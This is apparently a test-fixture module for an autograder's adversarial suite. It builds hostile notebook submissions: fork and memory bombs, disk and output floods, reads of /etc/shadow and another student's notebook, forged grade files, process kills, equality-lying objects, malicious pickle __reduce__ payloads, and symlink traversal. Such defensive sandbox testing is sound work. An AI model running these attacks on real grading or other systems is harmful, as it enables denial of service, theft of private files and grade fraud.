"""Hostile HW3 submissions for the adversarial suite, built with nbformat into a temp dir.

Each :class:`Attack` is one student folder: a first cell ``K = {...}`` with what the
attacker is assumed to know (the test's paths, ports and the unique ``marker`` its
processes carry in their command line), the correct HW3 answers of :data:`ANSWERS`
(10 points, harvested before the attack), then the attack's own cells, kept here as
readable source text. Nothing is committed as ``.ipynb``.

Attacks that need to tell the test what they saw from inside end with a cell raising
``RuntimeError("ATTACK-REPORT {json}")``: the report reaches the test through the
attacker's own result (``execution.failures``). Reports are diagnostics only; every test
also checks a canary from outside the sandbox.
"""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
from nbformat import v4

PROJECT = Path(__file__).resolve().parents[2]  # the grader's checkout (/work/main)
REPORT_PREFIX = "ATTACK-REPORT "
SECRET_PREFIX = "TOPSECRET-"

# The correct answers every attack defines first: q2_O 4 + q2_G 2 + q6 2 + 2 points.
ANSWERS = """\
import numpy as np
q2_O = np.array([[1.0, 2.0], [-10.0, 8.0]])
q2_G = 0.25
q6_output_shape = (28, 28, 32)
q6_params = 2080
"""
ANSWERS_POINTS = 10.0
# A later answer (2 points): graded only if the cells after the attack still ran.
LATER = "q3_total_params = 497349\n"
LATER_POINTS = 2.0

# The victim: every value answer right (26 points) and a secret in a markdown cell.
VICTIM_CELLS = (
    ANSWERS
    + """\
q2_dL_dX = np.array([[0.5, 0.5, 0.0], [-0.25, 0.0, 0.25], [-0.75, -0.5, 0.25]])
q2_dL_dF = np.array([[2.5, 1.75], [1.25, -1.0]])
q3_total_params = 497349
""",
)
VICTIM_POINTS = 26.0

REPORT = """\
import json as _json
raise RuntimeError("ATTACK-REPORT " + _json.dumps(REPORT, default=str))
"""

# Processes an attack leaves behind carry K["marker"] as an argument, so the test can
# find them in /proc/*/cmdline from outside.
SLEEPER = """\
import os, subprocess, sys

def sleeper(daemon=False):
    # A process that would outlive the kernel, in a new session; a daemon is also
    # re-parented to the namespace's init by a double fork. The marker is argv[0]
    # (of /bin/sleep) or an argument (of Python), so it shows in /proc/PID/cmdline.
    if not daemon:
        return subprocess.Popen([K["marker"], "3600"], executable="/bin/sleep",
                                start_new_session=True)
    code = "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(3600)"
    return subprocess.Popen([sys.executable, "-I", "-S", "-c", code, K["marker"]],
                            start_new_session=True)
"""


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at: paths, ports and markers owned by the test."""

    token: str  # unique per test run; part of every marker
    submissions: Path  # the real folder of submissions being graded
    victim: str  # the other student's id
    out_dir: Path  # the grader's output folder
    rubric: Path
    reference: Path  # the fake reference (holds a secret), the one the rubric uses
    pickle_marker: Path  # created only if the grader ever unpickles attacker data
    loopback_port: int  # TCP and UDP listeners of the test on 127.0.0.1
    loopback_udp_port: int
    netns_host: str | None  # the test host in a network namespace, if there is one
    netns_port: int

    @property
    def victim_notebook(self) -> Path:
        return self.submissions / self.victim / "hw3.ipynb"

    def marker(self, attack: str) -> str:
        return f"ADVMARK-{attack}-{self.token}"

    def constants(self, attack: str) -> dict[str, Any]:
        return {
            "marker": self.marker(attack),
            "submissions": str(self.submissions),
            "victim": self.victim,
            "victim_notebook": str(self.victim_notebook),
            "out_dir": str(self.out_dir),
            "rubric": str(self.rubric),
            "reference": str(self.reference),
            "project": str(PROJECT),
            "real_reference": str(PROJECT / "reference" / "hw3.py"),
            "real_rubric": str(PROJECT / "rubrics" / "hw3.yaml"),
            "pickle_marker": str(self.pickle_marker),
            "secret_prefix": SECRET_PREFIX,
            "loopback_port": self.loopback_port,
            "loopback_udp_port": self.loopback_udp_port,
            "netns_host": self.netns_host,
            "netns_port": self.netns_port,
        }


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its code cells (after K and ANSWERS) and extra files."""

    name: str
    cells: tuple[str, ...]
    symlinks: Mapping[str, str] = field(default_factory=dict)  # name -> target (format)
    answers_first: bool = True
    notebook_name: str | None = "hw3.ipynb"  # None: the notebook itself is a symlink


# ------------------------------------------------------------------------- the attacks

INFINITE_LOOP = Attack(
    "atk_infinite_loop",
    (
        "while True:\n    pass\n",
        LATER,
    ),
)

STUBBORN_LOOP = Attack(
    "atk_stubborn_loop",
    (
        SLEEPER + "kids = [sleeper(), sleeper(daemon=True)]\n",
        # Swallows the grader's interrupt: the kernel has to be killed.
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except KeyboardInterrupt:\n        pass\n",
        LATER,
    ),
)

FORK_FLOOD = Attack(
    "atk_fork_flood",
    (
        """\
import subprocess, sys, time
# A classic fork bomb in a child process (every copy carries the marker in argv).
BOMB = '''
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.5)
'''
bomb = subprocess.Popen([sys.executable, "-c", BOMB, K["marker"]], start_new_session=True)
time.sleep(3)
""",
        LATER,
    ),
)

PROCESS_FLOOD = Attack(
    "atk_process_flood",
    (
        SLEEPER
        + """\
REPORT = {"started": 0}
kids = []
try:
    for i in range(100000):
        kids.append(sleeper(daemon=i % 10 == 0))
        REPORT["started"] += 1
except OSError as exc:
    REPORT["stopped_by"] = f"{type(exc).__name__}: {exc}"
""",
        LATER,
        REPORT,
    ),
)

MEMORY_BOMB = Attack(
    "atk_memory_bomb",
    (
        # 512 MiB per cell (the cell time limit stays far), then until the kernel dies.
        "hog = [b'x' * 2**26 for _ in range(8)]  # 64 MiB each, really written\n",
        "hog += [b'x' * 2**26 for _ in range(8)]\n",
        "hog += [b'x' * 2**26 for _ in range(8)]\n",
        "while True:\n    hog.append(b'x' * 2**26)\n",
        LATER,
    ),
)

HUGE_OUTPUT = Attack(
    "atk_huge_output",
    (
        # Hundreds of MB through the kernel's stdout and stderr, i.e. as Jupyter messages
        # to the grader: first in one burst (a single message of 256 MB) ...
        """\
import sys, time
REPORT = {"printed_bytes": 0}
line = "x" * 2**20
for _ in range(256):
    print(line)
    REPORT["printed_bytes"] += len(line) + 1
sys.stdout.flush()
""",
        # ... then as a stream of 1 MB messages for 3 s ...
        """\
stop = time.monotonic() + 3
while time.monotonic() < stop:
    print(line, file=sys.stderr, flush=True)
    REPORT["printed_bytes"] += len(line) + 1
""",
        # ... and an exception whose message is 4 MB.
        "raise RuntimeError('E' * 4_000_000)\n",
        LATER,
        REPORT,
    ),
)

DISK_FILL = Attack(
    "atk_disk_fill",
    (
        """\
import os
REPORT = {}
block = b"z" * 2**24

def fill(directory, prefix):
    written, n = 0, 0
    try:
        while True:  # several files: one file is also capped by RLIMIT_FSIZE
            with open(os.path.join(directory, f"{prefix}{n}.bin"), "wb") as fh:
                for _ in range(8):
                    fh.write(block)
                    written += len(block)
            n += 1
    except OSError as exc:
        REPORT[directory + "_error"] = f"{type(exc).__name__}: errno {exc.errno}"
    REPORT[directory + "_bytes"] = written

fill(".", "fill")
fill("/tmp", "fill")
""",
        LATER,
        REPORT,
    ),
)

READ_OTHERS = Attack(
    "atk_read_others",
    (
        """\
import glob, os, time
# The report stays short (outcomes only); whatever is read goes into `loot`, which ends
# up where a grader might echo it: an answer, stdout and an exception message.
REPORT = {"read": {}}
loot = []

def grab(path):
    try:
        if os.path.isdir(path):
            text = " ".join(sorted(os.listdir(path)))
            loot.append(text)
            return "LISTED " + text[:100]
        with open(path, "rb") as fh:
            text = fh.read(100_000).decode("utf-8", "replace")
        loot.append(text)
        return "READ"
    except OSError as exc:
        return type(exc).__name__

sub, victim = K["submissions"], K["victim"]
paths = {
    "rel1": f"../{victim}/hw3.ipynb",
    "rel2": f"../../{victim}/hw3.ipynb",
    "rel3": f"../../../{victim}/hw3.ipynb",
    "victim_notebook": K["victim_notebook"],
    "submissions": sub,
    "victim_dir": os.path.join(sub, victim),
    "reference": K["reference"],
    "reference_dir": os.path.dirname(K["reference"]),
    "rubric": K["rubric"],
    "rubric_dir": os.path.dirname(K["rubric"]),
    "real_reference": K["real_reference"],
    "real_rubric": K["real_rubric"],
    "project": K["project"],
    "project_reference": os.path.dirname(K["real_reference"]),
    "out_dir": K["out_dir"],
    "root_home": "/root",
    "shadow": "/etc/shadow",
    "parent": "..",
    "proc1_environ": "/proc/1/environ",
}
for label, path in paths.items():
    REPORT["read"][label] = grab(path)
REPORT["scratch_dirs"] = sorted(glob.glob("/tmp/grade-*"))
REPORT["env_has_secret"] = any("TOPSECRET" in v for v in os.environ.values())
loot.append(repr(dict(os.environ)))
""",
        """\
# Search the whole file system for the secret and for anything that looks like
# another submission, the rubric or the reference.
deadline = time.monotonic() + 3.0
scanned, REPORT["found"], REPORT["names"] = 0, [], []
for root, dirs, files in os.walk("/"):
    if time.monotonic() > deadline:
        REPORT["walk"] = "stopped at the deadline"
        break
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")
               and d not in ("site-packages", "__pycache__", "include")]
    for name in files:
        path = os.path.join(root, name)
        own = path.startswith(os.getcwd() + "/")
        if name.endswith(("hw3.ipynb", "hw3.py", "hw3.yaml")) and not own:
            REPORT["names"].append(path)
        try:
            if os.path.getsize(path) > 2**20:
                continue
            with open(path, "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        scanned += 1
        at = data.find(K["secret_prefix"].encode())
        if at >= 0 and not own:
            REPORT["found"].append(path)
            loot.append(data[at : at + 80].decode("utf-8", "replace"))
REPORT["scanned"] = scanned
q2_dL_dX = "\\n".join(loot)
print(q2_dL_dX)
""",
        "raise RuntimeError(q2_dL_dX[-1500:])\n",
        REPORT,
    ),
)

WRITE_OTHERS = Attack(
    "atk_write_others",
    (
        """\
import os
REPORT = {}
victim_nb = K["victim_notebook"]
targets = [f"../{K['victim']}/hw3.ipynb", f"../../{K['victim']}/hw3.ipynb", victim_nb,
           os.path.join(K["submissions"], "planted.txt"),
           os.path.join(K["submissions"], K["victim"], "planted.py"),
           K["reference"], K["rubric"], K["real_reference"]]
for t in targets:
    outcome = []
    for what, act in (
        ("append", lambda: open(t, "a").write("\\nOWNED-BY-ATTACKER\\n")),
        ("truncate", lambda: open(t, "w").write("OWNED-BY-ATTACKER")),
        ("utime", lambda: os.utime(t, (0, 0))),
        ("chmod", lambda: os.chmod(t, 0o777)),
        ("rename", lambda: os.rename(t, t + ".moved")),
        ("unlink", lambda: os.unlink(t)),
    ):
        try:
            act()
            outcome.append(what + " OK")
        except OSError as exc:
            outcome.append(f"{what} {type(exc).__name__}")
    REPORT[t] = outcome
""",
        LATER,
        REPORT,
    ),
)

FORGE_RESULTS = Attack(
    "atk_forge_results",
    (
        """\
import json, os
REPORT = {}
forged = json.dumps({"student": K["victim"], "score": 0, "max_score": 90,
                     "note": "FORGED-BY-ATTACKER"})
mine = json.dumps({"student": "atk_forge_results", "score": 90, "max_score": 90,
                   "note": "FORGED-BY-ATTACKER"})
out = K["out_dir"]
for path, text in (
    (f"../../results/{K['victim']}.json", forged),
    (f"../results/{K['victim']}.json", forged),
    ("../../results/atk_forge_results.json", mine),
    (os.path.join(out, "results", f"{K['victim']}.json"), forged),
    (os.path.join(out, "results", "atk_forge_results.json"), mine),
    (os.path.join(out, "gradebook.csv"), "atk_forge_results,90 FORGED-BY-ATTACKER\\n"),
    (os.path.join(out, "sentinel.txt"), "FORGED-BY-ATTACKER"),
):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
        REPORT[path] = "written (inside the sandbox)"
    except OSError as exc:
        REPORT[path] = f"{type(exc).__name__}: {exc.strerror}"
""",
        LATER,
        REPORT,
    ),
)

NETWORK = Attack(
    "atk_network",
    (
        """\
import socket
REPORT = {}

def tcp(host, port):
    try:
        with socket.create_connection((host, port), timeout=2) as s:
            s.sendall(K["marker"].encode())
        return "CONNECTED"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"

def udp(host, port):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(K["marker"].encode(), (host, port))
        return "SENT"
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"

REPORT["loopback_tcp"] = tcp("127.0.0.1", K["loopback_port"])
REPORT["loopback_udp"] = udp("127.0.0.1", K["loopback_udp_port"])
if K["netns_host"]:
    REPORT["netns_tcp"] = tcp(K["netns_host"], K["netns_port"])
    REPORT["netns_udp"] = udp(K["netns_host"], K["netns_port"])
REPORT["interfaces"] = [name for _, name in socket.if_nameindex()]
""",
        LATER,
        REPORT,
    ),
)

KILL_PARENT = Attack(
    "atk_kill_parent",
    (
        "import os, time\nppid = os.getppid()\nos.kill(ppid, 9)\ntime.sleep(1)\n",
        LATER,
    ),
)

KILL_EVERYONE = Attack(
    "atk_kill_everyone",
    (
        SLEEPER + "kid = sleeper()\n",
        "import os, time\nos.kill(-1, 9)\ntime.sleep(1)\n",
        LATER,
    ),
)

KILL_GROUP = Attack(
    "atk_kill_group",
    (
        "import os\nos.killpg(0, 9)\n",
        LATER,
    ),
)

OS_EXIT = Attack(
    "atk_os_exit",
    (
        SLEEPER + "kids = [sleeper(), sleeper(daemon=True)]\n",
        "import os\nos._exit(0)\n",
        LATER,
    ),
)

SHOWTRACEBACK = Attack(
    "atk_showtraceback",
    (
        """\
import sys
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *a: None
""",
        # A wrong answer, then an exception nobody would see in the notebook.
        "q2_dL_dF = np.zeros((2, 2))\nq2_dL_dX = undefined_name * 2\n",
        LATER,
    ),
)

LYING_OBJECTS = Attack(
    "atk_lying_objects",
    (
        """\
import numpy as np
CALLS = []  # every time the grader's side called one of our methods

RIGHT_O = np.array([[1.0, 2.0], [-10.0, 8.0]])

def lie(name, value):
    def method(self, *args, **kwargs):
        CALLS.append(name)
        return value
    return method

class AlwaysEqual:
    __eq__ = lie("__eq__", True)
    __ne__ = lie("__ne__", False)
    __hash__ = object.__hash__
    __array__ = lie("__array__", RIGHT_O)
    __float__ = lie("__float__", 0.25)
    __int__ = lie("__int__", 2080)
    __index__ = lie("__index__", 2080)
    __len__ = lie("__len__", 2)
    __iter__ = lie("__iter__", iter([[1.0, 2.0], [-10.0, 8.0]]))
    __getitem__ = lie("__getitem__", 1.0)
    __class__ = property(lie("__class__", float))

class LyingFloat(float):
    __eq__ = lie("LyingFloat.__eq__", True)
    __hash__ = float.__hash__

class LyingInt(int):
    __eq__ = lie("LyingInt.__eq__", True)
    __hash__ = int.__hash__

class LyingArray(np.ndarray):
    __eq__ = lie("LyingArray.__eq__", True)
    __array__ = lie("LyingArray.__array__", RIGHT_O)

class LyingTuple(tuple):
    __eq__ = lie("LyingTuple.__eq__", True)
    __hash__ = tuple.__hash__

q2_O = AlwaysEqual()
q2_G = LyingFloat(0.25)
q2_dL_dX = np.zeros((3, 3)).view(LyingArray)
q2_dL_dF = AlwaysEqual()
# A tuple subclass is read through tuple's own storage (torch.Size is one), so its lie
# cannot help: the data it holds is wrong, and its __eq__ says otherwise.
q6_output_shape = LyingTuple((1, 2, 3))
q3_total_params = LyingInt(497349)
q6_params = 2080  # the one honest answer
""",
        # Runs after the harvests of the cell above: did anything call our methods?
        "REPORT = {'calls': list(CALLS)}\n" + REPORT,
    ),
    answers_first=False,
)

PICKLES = Attack(
    "atk_pickles",
    (
        """\
import json, os, pickle, sys
import numpy as np

harness = sys.modules["__grader_harness__"]
outbox = harness._State.outbox
harness.harvest = lambda *a, **k: None  # no later harvest overwrites the forgeries

class Payload:
    # Unpickling this anywhere creates K["pickle_marker"] (a path only the grader sees).
    def __reduce__(self):
        return (os.mkdir, (K["pickle_marker"],))

def forge(name, ref):
    record = {"name": name, "status": "ok", "type_name": "numpy.ndarray", "cell": 3,
              "message": "", "value": {"__ndarray__": ref}}
    with open(os.path.join(outbox, name + ".json"), "w") as fh:
        json.dump(record, fh)

def put(fname, data):
    path = os.path.join(outbox, fname)
    if os.path.lexists(path):
        os.remove(path)
    with open(path, "wb") as fh:
        fh.write(data)

# 1. an object array saved with allow_pickle under a name the harness would use
np.save(os.path.join(outbox, "q2_O.npy"), np.array([Payload()], dtype=object),
        allow_pickle=True)
forge("q2_O", "q2_O.npy")
# 2. a raw pickle in a .pkl, and a forged answer pointing to it
put("q2_G.pkl", pickle.dumps(Payload()))
forge("q2_G", "q2_G.pkl")
# 3. a raw pickle named .npy
put("q2_dL_dX.npy", pickle.dumps(Payload()))
forge("q2_dL_dX", "q2_dL_dX.npy")
# 4. the answer JSON itself is a pickle
put("q2_dL_dF.json", pickle.dumps(Payload()))
# 5. path traversal to an array outside the outbox
np.save("evil.npy", np.array([Payload()], dtype=object), allow_pickle=True)
forge("q3_total_params", "../work/evil.npy")
# 6. a symlink to another student's notebook, named like an array
os.symlink(K["victim_notebook"], os.path.join(outbox, "victim.npy"))
forge("q6_output_shape", "victim.npy")
# 7. an answer whose message and type name are tens of MB (within the answer-size cap)
with open(os.path.join(outbox, "q3_table.json"), "w") as fh:
    json.dump({"name": "q3_table", "status": "unsupported", "type_name": "T" * 20_000_000,
               "cell": 3, "message": "M" * 20_000_000, "value": None}, fh)
# 8. a FIFO where an answer file should be (a naive reader blocks forever)
os.remove(os.path.join(outbox, "q6_params.json"))
os.mkfifo(os.path.join(outbox, "q6_params.json"))
""",
    ),
)

SYMLINKS = Attack(
    "atk_symlinks",
    (
        """\
import os
REPORT = {}
loot = []
for name in ("data.csv", "victim.ipynb", "notes.txt", "reference", "secret.py"):
    try:
        if os.path.isdir(name):
            text = " ".join(os.listdir(name))
        else:
            with open(name, errors="replace") as fh:
                text = fh.read()
        loot.append(text)
        REPORT[name] = "READ " + text[:200]
    except OSError as exc:
        REPORT[name] = f"{type(exc).__name__}: {exc.strerror}"
REPORT["listing"] = sorted(os.listdir("."))
q2_dL_dX = "\\n".join(loot)
""",
        REPORT,
    ),
    symlinks={
        "data.csv": "/etc/shadow",
        "victim.ipynb": "{victim_notebook}",
        "notes.txt": "../{victim}/hw3.ipynb",
        "reference": "{reference_dir}",
        "secret.py": "{reference}",
    },
)

SYMLINK_NOTEBOOK = Attack(
    "atk_symlink_notebook",
    (),
    symlinks={"hw3.ipynb": "{victim_notebook}"},
    notebook_name=None,
)

ALL: tuple[Attack, ...] = (
    INFINITE_LOOP,
    STUBBORN_LOOP,
    FORK_FLOOD,
    PROCESS_FLOOD,
    MEMORY_BOMB,
    HUGE_OUTPUT,
    DISK_FILL,
    READ_OTHERS,
    WRITE_OTHERS,
    FORGE_RESULTS,
    NETWORK,
    KILL_PARENT,
    KILL_EVERYONE,
    KILL_GROUP,
    OS_EXIT,
    SHOWTRACEBACK,
    LYING_OBJECTS,
    PICKLES,
    SYMLINKS,
    SYMLINK_NOTEBOOK,
)
# A single-file submission (as LMS downloads come) that is a symlink to the victim's.
SINGLE_FILE_SYMLINK = "atk_single_symlink"


def notebook(cells: list[str], markdown: tuple[str, ...] = ()) -> Any:
    """An nbformat-4 notebook with ``markdown`` cells first, then ``cells`` as code."""
    nb = v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    nb.cells = [v4.new_markdown_cell(m) for m in markdown] + [v4.new_code_cell(c) for c in cells]
    return nb


def write_notebook(nb: Any, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))


def build_attack(attack: Attack, targets: Targets, root: Path) -> Path:
    """Write ``attack``'s folder under ``root``; return it."""
    folder = root / attack.name
    folder.mkdir(parents=True)
    items = "".join(f"    {k!r}: {v!r},\n" for k, v in targets.constants(attack.name).items())
    k_cell = f"K = {{\n{items}}}\n"
    cells = [k_cell, *([ANSWERS] if attack.answers_first else []), *attack.cells]
    if attack.notebook_name is not None:
        write_notebook(notebook(cells), folder / attack.notebook_name)
    fmt = {
        "victim_notebook": targets.victim_notebook,
        "victim": targets.victim,
        "reference": targets.reference,
        "reference_dir": targets.reference.parent,
    }
    for name, target in attack.symlinks.items():
        os.symlink(target.format(**fmt), folder / name)
    return folder


def build_victim(targets: Targets, secret: str) -> Path:
    """The other student: right answers and ``secret`` in a markdown and a code cell."""
    path = targets.victim_notebook
    cells = [*VICTIM_CELLS, f"my_notes = {secret!r}\n"]
    write_notebook(notebook(cells, markdown=(f"My private notes: {secret}",)), path)
    return path


def build_all(targets: Targets, root: Path, secret: str) -> list[Path]:
    """The victim, every attack and the single-file symlink, under ``root``."""
    build_victim(targets, secret)
    folders = [build_attack(a, targets, root) for a in ALL]
    os.symlink(targets.victim_notebook, root / f"{SINGLE_FILE_SYMLINK}.ipynb")
    return folders


def attack_report(result: Mapping[str, Any]) -> dict[str, Any] | None:
    """The attack's own ``ATTACK-REPORT`` from its result, or None."""
    for failure in result["execution"]["failures"]:
        evalue = failure.get("evalue") or ""
        if evalue.startswith(REPORT_PREFIX):
            report: dict[str, Any] = json.loads(evalue[len(REPORT_PREFIX) :])
            return report
    return None
